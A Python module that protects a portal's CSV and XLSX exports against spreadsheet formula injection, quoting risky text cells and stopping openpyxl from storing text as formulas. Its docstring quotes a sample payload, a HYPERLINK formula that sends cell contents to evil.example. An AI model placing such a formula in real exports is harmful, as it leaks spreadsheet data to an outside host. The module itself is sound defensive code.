"""CSV exports that a spreadsheet opens as text, never as formulas.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets: a use-case title such as `=HYPERLINK("https://evil.example/?"&A1, "Open")` would run
in an admin's spreadsheet. As OWASP recommends (https://owasp.org/www-community/attacks/CSV_Injection),
such text cells get a leading single quote, which spreadsheets show as text; numbers are left as they are.
Every CSV export of the portal writes its rows through `csv_writer`. An XLSX file is typed, so there a
text cell is simply stored as text: `xlsx_append` keeps the exact characters (no quote added) and never
lets openpyxl turn a text starting with `=` into a formula.
"""

from __future__ import annotations

import csv
import datetime
import decimal
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """The value, or its text with a leading `'` when a spreadsheet would read it as a formula."""
    if value is None or isinstance(
        value, bool | int | float | decimal.Decimal | datetime.date | datetime.datetime
    ):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class SafeCsvWriter:
    """`csv.writer`, with every cell through `safe_cell`."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable) -> SafeCsvWriter:
    return SafeCsvWriter(stream)


def xlsx_append(sheet: Any, row: Iterable[Any]) -> None:
    """`sheet.append(row)` (an openpyxl worksheet), with every text cell stored as text, never a formula."""
    sheet.append(list(row))
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":  # openpyxl's reading of a text that starts with "="
            cell.data_type = "s"
